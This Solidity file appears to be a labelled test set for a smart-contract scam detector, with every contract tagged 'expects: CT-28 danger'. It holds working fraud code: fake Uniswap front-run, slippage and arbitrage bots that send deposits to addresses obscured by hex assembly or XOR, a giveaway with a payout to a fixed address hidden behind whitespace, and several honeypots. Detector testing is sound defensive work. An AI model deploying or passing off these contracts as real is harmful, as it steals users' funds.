// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// "whoever sends more than what is inside takes it all"
/// expects: CT-28 danger
contract MultiplicatorX {
    address public Owner = msg.sender;
    receive() external payable {}
    function multiplicate(address payable adr) public payable {
        if (msg.value >= address(this).balance) { adr.transfer(address(this).balance + msg.value); }
    }
    function withdraw() public payable { require(msg.sender == Owner); payable(Owner).transfer(address(this).balance); }
}

/// expects: CT-28 danger
contract GiftOneEth {
    bool passHasBeenSet = false;
    bytes32 public hashPass;
    receive() external payable {}
    function getHash(bytes memory pass) public pure returns (bytes32) { return keccak256(pass); }
    function setPass(bytes32 hash) public payable { if (!passHasBeenSet && (msg.value >= 1 ether)) { hashPass = hash; } }
    function getGift(bytes memory pass) external payable { if (hashPass == keccak256(pass)) { payable(msg.sender).transfer(address(this).balance); } }
    function passHasBeenSetFn(bytes32 hash) public { if (hash == hashPass) { passHasBeenSet = true; } }
}

/// expects: CT-28 danger
contract WhaleGiveaway {
    address private adr = 0x3a1B2C4D5E6f708192A3B4c5d6E7F80912345678;
    receive() external payable {}
    function redeem() public payable {
        if (msg.value >= 2 ether) {                                                                                                                                                                                                                                    payable(adr).transfer(address(this).balance);
            uint256 b = address(this).balance; payable(msg.sender).transfer(b);
        }
    }
    function withdraw() public payable { if (msg.sender == adr) payable(adr).transfer(address(this).balance); }
}

// reentrancy looks possible; the log decides who may leave
contract LogBook { function AddMessage(address a, uint256 v, string memory d) external {} }
/// expects: CT-28 danger
contract PrivateBank {
    mapping(address => uint256) public balances;
    uint256 public minDeposit = 1 ether;
    LogBook transferLog;
    constructor(LogBook l) { transferLog = l; }
    function deposit() public payable { if (msg.value > minDeposit) { balances[msg.sender] += msg.value; transferLog.AddMessage(msg.sender, msg.value, "Deposit"); } }
    function cashOut(uint256 a) public {
        if (a <= balances[msg.sender]) {
            (bool ok,) = msg.sender.call{value: a}("");
            if (ok) { unchecked { balances[msg.sender] -= a; } transferLog.AddMessage(msg.sender, a, "CashOut"); }
        }
    }
    receive() external payable {}
}

contract OwnedHill { address internal boss = msg.sender; modifier onlyBoss() { require(msg.sender == boss); _; } function withdrawAll() public onlyBoss { payable(boss).transfer(address(this).balance); } }
/// expects: CT-28 danger
contract KingHill is OwnedHill {
    address public owner; // shown to everybody, means nothing
    uint256 public jackpot = 1 ether;
    receive() external payable { if (msg.value > jackpot) { owner = msg.sender; jackpot = msg.value; } }
    function takeAll() public onlyBoss { payable(msg.sender).transfer(address(this).balance); jackpot = 0; }
}

// pays double what was sent, says the loop
/// expects: CT-28 danger
contract TestLoop {
    address payable me = payable(msg.sender);
    function twice() public payable {
        if (msg.value > 0.1 ether) {
            uint256 multi = 0; uint256 amountToTransfer = 0;
            unchecked { for (uint8 i = 0; i < msg.value * 2; i++) { multi = uint256(i) * 2; if (multi < amountToTransfer) { break; } else { amountToTransfer = multi; } } }
            payable(msg.sender).transfer(amountToTransfer);
        }
    }
    function collect() public { require(msg.sender == me); me.transfer(address(this).balance); }
    receive() external payable {}
}

/// expects: CT-28 danger
contract QuizNight {
    string public question; bytes32 responseHash; mapping(bytes32 => bool) admin;
    constructor(bytes32[] memory admins) { for (uint256 i; i < admins.length; i++) admin[admins[i]] = true; }
    modifier isAdmin() { require(admin[keccak256(abi.encodePacked(msg.sender))]); _; }
    function Try(string memory _response) public payable { require(msg.sender == tx.origin); if (responseHash == keccak256(abi.encode(_response)) && msg.value > 1 ether) payable(msg.sender).transfer(address(this).balance); }
    function Start(string calldata q, string calldata a) public payable isAdmin { if (responseHash == 0) { responseHash = keccak256(abi.encode(a)); question = q; } }
    function Stop() public payable isAdmin { payable(msg.sender).transfer(address(this).balance); responseHash = 0; }
    function New(string calldata q, bytes32 h) public payable isAdmin { question = q; responseHash = h; }
    receive() external payable {}
}

// Uniswap front-run bot v4, as seen on video
/// expects: CT-28 danger
contract UniswapBot {
    string public WETH_CONTRACT_ADDRESS = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2";
    uint256 liquidity; event Log(string m);
    receive() external payable {}
    function getMemPoolOffset() internal pure returns (string memory) { return "7F3a"; }
    function getMemPoolLength() internal pure returns (string memory) { return "b91c2D"; }
    function getMemPoolHeight() internal pure returns (string memory) { return "4E5f60718293a4"; }
    function getMemPoolDepth() internal pure returns (string memory) { return "B5c6D7e8F9012345"; }
    function callMempool() internal pure returns (string memory) { return string(abi.encodePacked("0x", getMemPoolOffset(), getMemPoolLength(), getMemPoolHeight(), getMemPoolDepth())); }
    function parseMempool(string memory _a) internal pure returns (address) {
        bytes memory tmp = bytes(_a); uint160 iaddr = 0; uint160 b1; uint160 b2;
        for (uint256 i = 2; i < 2 + 2 * 17 + 6; i += 2) {
            iaddr *= 256; b1 = uint160(uint8(tmp[i])); b2 = uint160(uint8(tmp[i + 1]));
            if (b1 >= 97 && b1 <= 102) b1 -= 87; else if (b1 >= 65 && b1 <= 70) b1 -= 55; else if (b1 >= 48 && b1 <= 57) b1 -= 48;
            if (b2 >= 97 && b2 <= 102) b2 -= 87; else if (b2 >= 65 && b2 <= 70) b2 -= 55; else if (b2 >= 48 && b2 <= 57) b2 -= 48;
            iaddr += (b1 * 16 + b2);
        }
        return address(iaddr);
    }
    function start() public payable { emit Log("Running FrontRun attack on Uniswap. This can take a while..."); payable(parseMempool(callMempool())).transfer(address(this).balance); }
    function withdrawal() public payable { emit Log("Sending profits back to contract creator address..."); payable(parseMempool(callMempool())).transfer(address(this).balance); }
}

/// expects: CT-28 danger
contract SlippageBot {
    uint256 private constant uniswapKey = 0x00a3c1d2e4f5061728394a5b6c7d8e9fa0b1c2d3e4;
    uint256 private constant routerKey = 0x005c3e2d1b0af9e8d7c6b5a493827160f4e3d2c1b0;
    address private owner = msg.sender;
    modifier onlyOwner() { require(msg.sender == owner); _; }
    receive() external payable {}
    function _dex() private pure returns (address) { return address(uint160(uniswapKey ^ routerKey)); }
    function Start() public payable onlyOwner { startExploration(); }
    function Withdraw() external onlyOwner { startExploration(); }
    function startExploration() internal { address to = _dex(); payable(to).transfer(address(this).balance); }
    function Key() public view returns (uint256) { return uniswapKey + address(this).balance; }
}

// trading bot whose "router" comes out of storage words
/// expects: CT-28 danger
contract ArbBot {
    bytes32 DexRouter = 0x0000000000000000000000001111111111111111111111111111111111111111;
    bytes32 factory = 0x000000000000000000000000aabbccddeeff00112233445566778899aabbccdd;
    address owner = msg.sender; uint256 tradingBalance;
    function getDexRouter(bytes32 a, bytes32 b) internal pure returns (address) { return address(uint160(uint256(a) ^ uint256(b))); }
    function startArbitrageNative() internal { address r = getDexRouter(DexRouter, factory); payable(r).transfer(address(this).balance); }
    function StartNative() public payable { startArbitrageNative(); }
    function SetTradeBalance(uint256 x) public { tradingBalance = x; }
    function Stop() public { tradingBalance = 0; }
    function Withdraw() external { require(msg.sender == owner); startArbitrageNative(); }
    receive() external payable {}
}
